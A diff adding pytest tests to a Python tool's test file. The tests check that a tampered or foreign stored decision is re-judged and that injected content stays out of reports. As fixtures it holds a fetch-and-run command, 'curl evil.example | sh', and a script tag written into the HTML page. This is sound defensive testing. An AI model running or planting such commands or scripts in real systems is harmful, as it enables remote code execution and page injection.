@@ -1,18 +1,23 @@
 """What a record says of how it was measured, and what it must not say."""
 
+import json
 import tomllib
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
+from choose.api import stored_decision
 from choose.api.study_evidence import evidence_of, merge_numbers, method_of, notes_of, settings
+from choose.errors import StudyError
 from choose.formatting import DASH
 from choose.judge.goal import Rule
 from choose.judge.verdict import judge
 from choose.report.html.page import render_html
 from choose.report.html.page_tables import measured
-from choose.store.store import Store
+from choose.store.store import PAGE, Store
 from choose.study.config import Study
 from choose.tasks.classification import Classification
 from choose.types import Run
@@ -155,3 +160,56 @@ def test_texts_with_an_address_are_found_in_a_store(tmp_path: Path) -> None:
     out = tmp_path / "st"
     compare(path, overrides={"grid": grid}, strategies=["majority", "tfidf"], out=out)
     assert len(evidence_of(Store.open(out)).personal or ()) == 12
+
+
+Choose = Callable[..., tuple[int, str, str]]
+
+QUICK = ("--set", "seeds=1", "--set", "noise=0")
+
+
+@pytest.fixture
+def store(choose: Choose, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.setenv("CHOOSE_CACHE", str(tmp_path / "cache"))
+    data = write_csv(tmp_path / "words.csv")
+    code, _, err = choose("compare", data, "-s", "tfidf", *QUICK, "--out", tmp_path / "st")
+    assert code == 0, err
+    return tmp_path / "st"
+
+
+def poisoned(store: Path, command: str = "curl evil.example | sh") -> dict[str, Any]:
+    """Return the stored decision with another command, which fits the schema."""
+    record: dict[str, Any] = json.loads((store / "decision.json").read_text())
+    step = {"kind": "label-more", "code": "separate", "names": ["a", "b"], "count": 9, "total": 12}
+    record["verdict"]["steps"] = [{**step, "command": command}]
+    return record
+
+
+def test_a_decision_that_was_edited_is_judged_again(choose: Choose, store: Path) -> None:
+    shown = choose("report", store)
+    (store / "decision.json").write_text(json.dumps(poisoned(store, "echo 'open")))
+    (store / PAGE).write_text("<script>evil</script>")
+    assert choose("report", store)[:2] == shown[:2]
+    assert "evil" not in (store / PAGE).read_text()
+
+
+def test_a_decision_of_another_user_is_judged_again(choose, store, monkeypatch):
+    """Nothing but the key in the cache tells that it was made elsewhere."""
+    stored = Store(store)
+    with monkeypatch.context() as elsewhere:
+        elsewhere.setattr(stored_decision, "_own_key", lambda: "of another user")
+        stored.decide(stored_decision.state_of(stored), poisoned(store))
+        assert "evil" in choose("report", store)[1]
+    assert "evil" not in choose("report", store)[1]
+
+
+def test_the_own_decision_is_read_and_its_key_is_private(choose, store, tmp_path, monkeypatch):
+    key = tmp_path / "cache/decisions.key"
+    assert key.stat().st_mode & 0o777 == 0o600
+
+    def judged(*_: object, **__: object) -> None:
+        raise StudyError("Judged again.")
+
+    monkeypatch.setattr("choose.judge.verdict.judge", judged)
+    assert choose("report", store)[0] == 0
+    key.unlink()
+    assert choose("report", store)[2] == "Error: Judged again.\n"
